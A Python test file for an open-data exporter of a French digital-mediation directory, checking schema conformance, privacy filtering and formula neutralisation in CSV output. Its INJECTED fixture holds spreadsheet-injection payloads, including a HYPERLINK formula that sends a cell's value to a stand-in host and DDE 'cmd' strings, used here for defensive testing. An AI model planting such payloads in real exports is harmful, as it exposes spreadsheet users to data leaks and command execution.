"""The national-standard directory and the other open-data files."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
import sys
from datetime import date, datetime, timezone
from pathlib import Path

from factory import TODAY, check, item, loan, member, place, write_dataset

from generator.export import (STANDARD_FIELDS, items_json, neutralise, places_csv, places_geojson, places_json,
                              write_open_data)

ROOT = Path(__file__).resolve().parent.parent
# The national standard is vendored inside the repository (never read from a folder beside it).
STANDARD = ROOT / "reference" / "standard-mediation-num" / "schema.json"
# frictionless is installed next to the Python that runs the tests (make install-test).
FRICTIONLESS = Path(sys.executable).parent / "frictionless"
STAMP = datetime(2026, 4, 1, tzinfo=timezone.utc)

INJECTED = {
    "nom": '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")',
    "adresse": "+cmd|' /C calc'!A0",
    "complement_adresse": "-2+3",
    "presentation_resume": "@SUM(1+1)*cmd|' /C calc'!A0",
    "presentation_detail": "\t=1+1",
    "telephone": "+33233000000",
}


def _validate_with_frictionless(csv_bytes: bytes, folder: Path) -> subprocess.CompletedProcess[str]:
    """``frictionless validate`` run from the folder holding the CSV and a copy of the schema."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "lieux.csv").write_bytes(csv_bytes)
    shutil.copyfile(STANDARD, folder / "schema.json")
    return subprocess.run([str(FRICTIONLESS), "validate", "--schema", "schema.json", "lieux.csv"],
                          cwd=folder, capture_output=True, text=True, timeout=120)


def _rows(csv_bytes: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8"))))


def test_columns_follow_the_standard_order() -> None:
    schema = json.loads(STANDARD.read_text(encoding="utf-8"))
    assert list(STANDARD_FIELDS) == [field["name"] for field in schema["fields"]]


def test_sample_data_exports_a_valid_directory(sample_data: Path, tmp_path: Path) -> None:
    outcome = check(sample_data, TODAY)
    assert outcome.errors == []
    written = write_open_data(outcome.dataset, tmp_path / "exports", STAMP)
    assert {p.name for p in written} >= {"lieux.csv", "lieux.json", "lieux.geojson", "materiel.json",
                                         "reservations.json", "reseau.ics"}
    result = _validate_with_frictionless((tmp_path / "exports" / "lieux.csv").read_bytes(), tmp_path / "check")
    assert result.returncode == 0, result.stdout + result.stderr
    rows = _rows((tmp_path / "exports" / "lieux.csv").read_bytes())
    assert len(rows) == len(outcome.dataset.places)


def _dataset_with(tmp_path: Path, **fields: object):  # type: ignore[no-untyped-def]
    members = [member("mairie-a", nom="Commune de Saint-Lô", lieux=[
        place("lieu-b", **fields), place("lieu-a", nom="Autre lieu", pivot="12345678200002",
                                         site_web=["https://a.exemple.fr/", "https://b.exemple.fr/"])])]
    outcome = check(write_dataset(tmp_path, members=members, loans=[loan(lieu="lieu-a")]))
    assert outcome.errors == []
    return outcome.dataset


def test_rows_map_member_and_network_fields(tmp_path: Path) -> None:
    rows = _rows(places_csv(_dataset_with(tmp_path)))
    assert [row["id"] for row in rows] == ["lieu-a", "lieu-b"]
    first, second = rows
    assert first["pivot"] == "12345678200002"  # the place's own pivot
    assert second["pivot"] == "21500502000015"  # else the member's SIRET
    assert first["structure_parente"] == "Commune de Saint-Lô"
    assert first["source"] == "Département de la Manche"
    assert first["site_web"] == "https://a.exemple.fr/|https://b.exemple.fr/"
    assert (first["latitude"], first["longitude"], first["date_maj"]) == ("49.11", "-1.09", "2026-01-05")
    assert first["telephone"] == ""


def test_csv_quotes_every_cell_like_the_standard_example(tmp_path: Path) -> None:
    header, first_row = places_csv(_dataset_with(tmp_path)).decode("utf-8").split("\r\n")[:2]
    assert header == ",".join(f'"{name}"' for name in STANDARD_FIELDS)
    assert first_row.startswith('"lieu-a","12345678200002","Autre lieu","Saint-Lô","50000"')


def test_formulas_are_neutralised_and_the_row_stays_valid(tmp_path: Path) -> None:
    dataset = _dataset_with(tmp_path, **INJECTED)
    csv_bytes = places_csv(dataset)
    row = next(row for row in _rows(csv_bytes) if row["id"] == "lieu-b")
    assert row["nom"] == "'" + INJECTED["nom"]
    assert row["adresse"] == "'+cmd|' /C calc'!A0"
    assert row["complement_adresse"] == "'-2+3"
    assert row["presentation_resume"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["presentation_detail"] == "'\t=1+1"
    assert row["telephone"] == "+33233000000"  # matches ^\+33\d+$: digits only, cannot call anything
    assert row["longitude"] == "-1.09"  # a number, not text
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or column in {"telephone", "longitude"}
    result = _validate_with_frictionless(csv_bytes, tmp_path / "check")
    assert result.returncode == 0, result.stdout + result.stderr
    as_json = next(entry for entry in json.loads(places_json(dataset)) if entry["id"] == "lieu-b")
    assert as_json["nom"] == row["nom"] and as_json["telephone"] == "+33233000000"


def test_neutralise_only_lets_a_valid_telephone_keep_its_plus() -> None:
    assert neutralise("telephone", "+33233000000") == "+33233000000"
    assert neutralise("telephone", "+33=1+1") == "'+33=1+1"
    assert neutralise("nom", "+33233000000") == "'+33233000000"
    assert neutralise("nom", "Médiathèque") == "Médiathèque"
    assert neutralise("nom", "\rcmd") == "'\rcmd"


def test_json_has_the_csv_keys_in_order_and_numbers_for_coordinates(tmp_path: Path) -> None:
    dataset = _dataset_with(tmp_path)
    entries = json.loads(places_json(dataset))
    assert [list(entry) for entry in entries] == [list(STANDARD_FIELDS)] * 2
    assert (entries[0]["latitude"], entries[0]["longitude"]) == (49.11, -1.09)
    assert entries[0]["telephone"] is None
    csv_rows = _rows(places_csv(dataset))
    for entry, row in zip(entries, csv_rows):
        assert {k: "" if v is None else str(v) for k, v in entry.items()} == row


def test_geojson_has_one_point_per_place_linking_to_its_page(tmp_path: Path) -> None:
    collection = json.loads(places_geojson(_dataset_with(tmp_path)))
    assert collection["type"] == "FeatureCollection"
    assert [(f["geometry"]["coordinates"], f["properties"]["id"], f["properties"]["url"])
            for f in collection["features"]] == [([-1.09, 49.11], "lieu-a", "lieux/lieu-a/"),
                                                 ([-1.09, 49.11], "lieu-b", "lieux/lieu-b/")]
    assert collection["features"][0]["properties"]["services"] == ["Maîtrise des outils numériques du quotidien"]


def test_items_json_keeps_inventory_numbers_and_drops_serial_numbers(tmp_path: Path) -> None:
    drone = item("drone-a", nom="Drone", categorie="drone", exigences=["formation_telepilote"],
                 composants=[{"id": "drone", "nom": "Drone", "numero_serie": "SN-NE-PAS-PUBLIER"}])
    dataset = check(write_dataset(tmp_path, equipment=[drone])).dataset
    payload = items_json(dataset)
    assert b"SN-NE-PAS-PUBLIER" not in payload
    (entry,) = json.loads(payload)
    assert entry["numero_inventaire"] == "INV-drone-a"
    assert entry["composants"] == [{"id": "drone", "nom": "Drone"}]
    assert entry["exigences"] == [{"id": "formation_telepilote", "nom": "Formation de télépilote"}]


def test_bookings_json_names_organisations_only(tmp_path: Path) -> None:
    dataset = check(write_dataset(tmp_path, loans=[loan(referent="pilote-a")])).dataset
    written = write_open_data(dataset, tmp_path / "out", STAMP)
    payload = (tmp_path / "out" / "reservations.json").read_text(encoding="utf-8")
    assert json.loads(payload) == [{
        "pret": "pret-a", "materiel": "kit-vr", "materiel_nom": "Kit de test", "emprunteur": "mairie-a",
        "emprunteur_nom": "Commune de test", "debut": "2026-05-04", "fin": "2026-05-15", "statut": "accepte",
        "etat": "reserve", "etat_libelle": "Réservé"}]
    for path in written:
        text = path.read_text(encoding="utf-8")
        for secret in ("demandeur-a", "agent-dep", "pilote-a", "Référent fictif"):
            assert secret not in text, (path, secret)


def test_calendar_json_covers_two_months_back_and_six_ahead(tmp_path: Path) -> None:
    dataset = check(write_dataset(tmp_path), date(2026, 4, 15)).dataset
    write_open_data(dataset, tmp_path / "out", STAMP)
    payload = json.loads((tmp_path / "out" / "calendrier" / "disponibilites.json").read_text(encoding="utf-8"))
    # Whole months, as the calendar pages say (« du 1er février au 31 octobre »): one period for both.
    assert payload["periode"] == {"debut": "2026-02-01", "fin": "2026-10-31"}


def test_the_vendored_standard_is_v1_0_2_with_its_licence_and_checksums() -> None:
    schema = json.loads(STANDARD.read_text(encoding="utf-8"))
    assert (schema["name"], schema["version"]) == ("standard-mediation-num", "v1.0.2")
    assert [licence["name"] for licence in schema["licenses"]] == ["etalab-2.0"]
    notice = (STANDARD.parent / "README.md").read_text(encoding="utf-8")
    for name in ("schema.json", "exemple-valide.csv"):
        digest = hashlib.sha256((STANDARD.parent / name).read_bytes()).hexdigest()
        assert f"`{digest}`" in notice, name
    assert "Licence Ouverte" in (STANDARD.parent / "LICENCE.md").read_text(encoding="utf-8")


def test_the_standard_example_is_valid_against_the_vendored_schema(tmp_path: Path) -> None:
    example = (STANDARD.parent / "exemple-valide.csv").read_bytes()
    result = _validate_with_frictionless(example, tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_export_checks_pass_from_the_repository_alone(tmp_path: Path) -> None:
    """A clone with no folder beside it: the export tests run, none is skipped."""
    listed = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"],
                            cwd=ROOT, capture_output=True, check=True).stdout.decode("utf-8")
    clone = tmp_path / "seul" / "depot"
    for name in filter(None, listed.split("\0")):
        source = ROOT / name
        if source.is_file() and not source.is_symlink():
            (clone / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(source, clone / name)
    assert sorted(path.name for path in (tmp_path / "seul").iterdir()) == ["depot"]
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-rs", "-p", "no:cacheprovider",
                             "tests/test_export.py", "-k", "not repository_alone"],
                            cwd=clone, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "skipped" not in result.stdout and " passed" in result.stdout, result.stdout


def test_a_late_return_does_not_stop_the_export(tmp_path: Path) -> None:
    """An item still out after its last day is a situation to handle, not a fault in the data."""
    from generator.cli import main

    late = loan(statut="retire", debut="2026-04-07", fin="2026-04-09", retrait="2026-04-07T09:00",
                restitution="2026-04-09T16:00",
                etat_retrait={"date": "2026-04-07T09:00", "par": "agent-dep", "composants": [
                    {"materiel": "kit-vr", "composant": "valise", "etat": "bon"},
                    {"materiel": "kit-vr", "composant": "casque", "etat": "bon"}]})
    data_dir = write_dataset(tmp_path, loans=[late])
    outcome = check(data_dir, date(2026, 4, 15))
    assert [f.rule for f in outcome.errors] == ["retard-restitution"] and outcome.faults == []
    code = main(["export", "--data", str(data_dir), "--today", "2026-04-15", "--out", str(tmp_path / "exports")])
    assert code == 0
    assert (tmp_path / "exports" / "reservations.json").is_file()
